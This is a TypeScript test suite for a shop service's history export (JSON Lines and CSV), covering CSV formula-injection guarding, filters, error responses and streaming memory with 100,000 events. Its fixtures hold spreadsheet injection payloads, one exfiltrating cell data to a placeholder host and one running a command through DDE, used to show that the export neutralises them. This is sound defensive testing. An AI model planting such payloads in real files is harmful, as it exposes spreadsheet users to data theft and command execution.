import { randomUUID } from 'node:crypto';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { EVENT_STORE, EventStore, EventToAppend } from '@shoplink/event-store';
import { ShopProjectorService } from '../apps/api/src/projections/shop-projector.service';
import { parseCsv } from './support/parse-csv';
import { HttpAnswer, ShoplinkTestApp } from './support/shoplink-test-app';
import { PAYOUTS, SECURITY, ShopScenario } from './support/shop-scenarios';

/**
 * Free text from callers, as hostile as a spreadsheet user could meet it. Control characters are
 * refused at the API (docs/api.md, Identifiers and text), so those reach the log only in events
 * appended directly below (incidentEvent), as text stored before that rule would.
 */
const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")',
  'Account taken over, "admin" password reset, then logged in from 3 countries',
  '+44 20 7946 0000 called, claimed to be support',
  '-1 refund loop; @everyone notified',
  'Note: ünïcödé 店舗, emoji 🛍️👩🏽‍💻',
];

const EXPORT_FIELDS_HEADER =
  'occurredAt,revision,position,type,actor,callingService,authMethods,authTime,authIssuer,assertionId,reason,summary,correlationId,causationId,commandId,eventId,shopId';

describe('History export', () => {
  let app: ShoplinkTestApp;
  let scenario: ShopScenario;
  let last: HttpAnswer;
  const shop = '/v1/shops/export-shop';

  beforeAll(async () => {
    app = await ShoplinkTestApp.start();
    scenario = new ShopScenario(app);
    await scenario.verifiedShop('export-shop');
    await scenario.credit('export-shop', 'settle-1', 10_000);
    for (const [i, description] of HOSTILE_TEXTS.entries()) {
      last = await app.command('POST', `${shop}/security-incidents`, { incidentId: `inc-${i}`, description }, SECURITY);
      expect(last.status).toBe(200);
      last = await app.command(
        'POST',
        `${shop}/security-incidents/inc-${i}/resolution`,
        { resolution: `Resolved: ${description}` },
        SECURITY,
      );
      expect(last.status).toBe(200);
    }
    await scenario.withdraw('export-shop', 'wd-1', 2_500);
    last = await app.command(
      'POST',
      `${shop}/withdrawals/wd-1/failure`,
      { reason: '=cmd|"/C calc"!A0, bank said "no", retry later' },
      PAYOUTS,
    );
    expect(last.status).toBe(200);
  });

  afterAll(async () => {
    await app.destroy();
  });

  async function historyEntries(): Promise<any[]> {
    const answer = await app.query(`${shop}/history?limit=500`, last);
    expect(answer.status).toBe(200);
    return answer.body.entries;
  }

  it('exports JSON Lines: one entry per line, exactly the history entries', async () => {
    const answer = await app.query(`${shop}/history/export?format=jsonl`, last);

    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('application/x-ndjson');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="shop-export-shop-history.jsonl"');
    // The helper parses JSON bodies; several lines are not one JSON value, so the body stays text.
    const lines = (answer.body as string).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line))).toEqual(await historyEntries());
  });

  it('exports CSV per RFC 4180 with a header row, hostile text neutralised and read back intact', async () => {
    const answer = await app.query(`${shop}/history/export?format=csv`, last);

    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="shop-export-shop-history.csv"');
    const [header, ...rows] = parseCsv(answer.body);
    expect(header.join(',')).toBe(EXPORT_FIELDS_HEADER);
    const entries = await historyEntries();
    expect(rows).toHaveLength(entries.length);

    const column = (name: string) => header.indexOf(name);
    const guarded = (value: string | null) => (value === null ? '' : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    for (const [i, row] of rows.entries()) {
      expect(row).toHaveLength(header.length);
      expect(row[column('revision')]).toBe(String(entries[i].revision));
      expect(row[column('reason')]).toBe(guarded(entries[i].reason));
      expect(row[column('summary')]).toBe(guarded(entries[i].summary));
      expect(row[column('actor')]).toBe(entries[i].actor);
    }
    const reasons = rows.map((row) => row[column('reason')]);
    expect(reasons).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")`,
        'Account taken over, "admin" password reset, then logged in from 3 countries',
        "'+44 20 7946 0000 called, claimed to be support",
        "'-1 refund loop; @everyone notified",
        'Note: ünïcödé 店舗, emoji 🛍️👩🏽‍💻',
        `'=cmd|"/C calc"!A0, bank said "no", retry later`,
      ]),
    );
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('applies the history filters to the export', async () => {
    const answer = await app.query(`${shop}/history/export?format=jsonl&type=SecurityIncidentReported&actor=system:security`, last);

    const lines = (answer.body as string)
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map((e) => e.reason)).toEqual(HOSTILE_TEXTS);
  });

  it('answers 404 before streaming for an unknown shop, and 400 for a missing or unknown format', async () => {
    const missingShop = await app.request('GET', '/v1/shops/no-such-shop/history/export?format=csv');
    expect(missingShop.status).toBe(404);
    expect(missingShop.body.code).toBe('SHOP_NOT_FOUND');
    expect(missingShop.headers.get('content-type')).toMatch(/^application\/json/);

    const noFormat = await app.request('GET', `${shop}/history/export`);
    const badFormat = await app.request('GET', `${shop}/history/export?format=xlsx&type=Nope&limit=5`);
    expect(noFormat.status).toBe(400);
    expect(noFormat.body.details.map((d: { field: string }) => d.field)).toEqual(['query.format']);
    expect(badFormat.status).toBe(400);
    expect(new Set(badFormat.body.details.map((d: { field: string }) => d.field))).toEqual(
      new Set(['query.format', 'query.type', 'query.limit']),
    );
  });

  describe('a shop with 100,000 events', () => {
    const EVENTS = 100_000;
    const bigShop = 'big-shop';
    let head: string;

    beforeAll(async () => {
      head = (await scenario.verifiedShop(bigShop)).body.position;
      const registered = 4; // registered, submitted, verified, graduated
      const eventStore = app.nest.get<EventStore>(EVENT_STORE);
      const start = Date.parse('2026-12-01T00:00:00.000Z');
      let revision = registered - 1;
      // Appended through the service's own event store (hash chain included) and projected by its projector.
      for (let batch = 0; batch < EVENTS / 1000; batch += 1) {
        const events: EventToAppend[] = [];
        for (let i = 0; i < 1000; i += 1) {
          const n = batch * 1000 + i;
          events.push(incidentEvent(bigShop, n, new Date(start + n * 1000).toISOString()));
        }
        const result = await eventStore.appendToStream(`shop-${bigShop}`, events, revision);
        revision = result.nextExpectedRevision;
        head = String(result.position.commit);
      }
      const projector = app.nest.get(ShopProjectorService);
      expect(await projector.waitFor({ commit: BigInt(head), prepare: BigInt(head) }, 120_000)).toBe(true);
    }, 180_000);

    it.each(['jsonl', 'csv'] as const)(
      'streams the %s export with flat memory and exactly one record per event',
      async (format) => {
        const result = await streamMeasuringHeap(
          `${app.baseUrl}/v1/shops/${bigShop}/history/export?format=${format}&minPosition=${head}`,
          format,
          app.authorization,
        );
        const expectedLines = EVENTS + 4 + (format === 'csv' ? 1 : 0);
        const mb = (n: number) => `${(n / 1e6).toFixed(1)} MB`;
        // Read by people running the suite: the figures behind the claim.
        process.stdout.write(
          `${format} export: ${result.lines} records, ${mb(result.bytes)} in ${result.ms} ms; peak growth after GC (${result.samples} samples): ` +
            `heapUsed ${mb(result.liveHeapGrowth)}, heapUsed + external ${mb(result.liveTotalGrowth)}; heapUsed without forced GC ${mb(result.rawHeapGrowth)}\n`,
        );

        expect(result.status).toBe(200);
        expect(result.lines).toBe(expectedLines);
        expect(result.bytes).toBeGreaterThan(30e6);
        // A buffering export keeps the whole body alive (it measured +150 MB here); streaming keeps a page.
        expect(result.liveHeapGrowth).toBeLessThan(result.bytes / 3);
        expect(result.liveTotalGrowth).toBeLessThan(result.bytes / 3);
      },
      120_000,
    );
  });
});

/** A SecurityIncidentReported / Resolved pair member: free text makes each entry several hundred bytes. */
function incidentEvent(shopId: string, n: number, occurredAt: string): EventToAppend {
  const incidentId = `inc-${Math.floor(n / 2)}`;
  const text = `${n % 3 === 0 ? '\tTab-led, ' : ''}${HOSTILE_TEXTS[n % HOSTILE_TEXTS.length]} — case ${n},\r\nsee ticket T-${n} for details of what was reported and done`;
  const data =
    n % 2 === 0
      ? { shopId, incidentId, description: text, reportedAt: occurredAt }
      : { shopId, incidentId, resolution: `Resolved: ${text}`, resolvedAt: occurredAt };
  const commandId = randomUUID();
  return {
    id: randomUUID(),
    type: n % 2 === 0 ? 'SecurityIncidentReported' : 'SecurityIncidentResolved',
    data,
    metadata: {
      commandId,
      correlationId: randomUUID(),
      causationId: commandId,
      actor: { kind: 'system', id: 'security' },
      callingService: 'security-service',
      occurredAt,
      schemaVersion: 1,
    },
  };
}

/** Full garbage collection on demand, to measure what the export keeps alive rather than when V8 gets round to collecting. */
function exposeGc(): () => void {
  setFlagsFromString('--expose-gc');
  return runInNewContext('gc') as () => void;
}

/**
 * heapUsed and Buffers' memory outside the heap, after collecting until nothing more goes (one pass can leave the
 * previous test's garbage).
 */
async function settledMemory(gc: () => void): Promise<{ heap: number; external: number }> {
  let heap = Infinity;
  for (let pass = 0; pass < 5; pass += 1) {
    gc();
    await new Promise((resolve) => setImmediate(resolve));
    const now = process.memoryUsage().heapUsed;
    if (now > heap * 0.99) break;
    heap = now;
  }
  gc();
  const { heapUsed, external } = process.memoryUsage();
  return { heap: heapUsed, external };
}

/**
 * Downloads over real HTTP, counting records and bytes without keeping the body, while sampling
 * the memory of this process (which runs the service too): after a forced GC every ~2 MB
 * received (what stays alive: heapUsed, and Buffers outside the heap), and heapUsed as is on
 * every chunk (what V8 lets pile up before collecting).
 */
async function streamMeasuringHeap(url: string, format: 'jsonl' | 'csv', headers: Record<string, string>) {
  const gc = exposeGc();
  const baseline = await settledMemory(gc);
  let peakLiveHeap = baseline.heap;
  let peakLiveTotal = baseline.heap + baseline.external;
  let peakRawHeap = baseline.heap;
  let samples = 0;
  let bytes = 0;
  let lines = 0;
  // A CSV record ends at a LF outside quotes (a doubled quote toggles twice); a JSON line at any LF.
  let inQuotes = false;
  const QUOTE = format === 'csv' ? 0x22 : -1;
  let nextSampleAt = 0;
  const started = Date.now();
  const response = await fetch(url, { headers });
  const reader = response.body!.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    bytes += value.byteLength;
    for (let i = 0; i < value.length; i += 1) {
      if (value[i] === QUOTE) inQuotes = !inQuotes;
      else if (value[i] === 0x0a && !inQuotes) lines += 1;
    }
    peakRawHeap = Math.max(peakRawHeap, process.memoryUsage().heapUsed);
    if (bytes >= nextSampleAt) {
      gc();
      const { heapUsed, external } = process.memoryUsage();
      peakLiveHeap = Math.max(peakLiveHeap, heapUsed);
      peakLiveTotal = Math.max(peakLiveTotal, heapUsed + external);
      samples += 1;
      nextSampleAt = bytes + 2e6;
    }
  }
  return {
    status: response.status,
    bytes,
    lines,
    samples,
    ms: Date.now() - started,
    liveHeapGrowth: peakLiveHeap - baseline.heap,
    liveTotalGrowth: peakLiveTotal - baseline.heap - baseline.external,
    rawHeapGrowth: peakRawHeap - baseline.heap,
  };
}
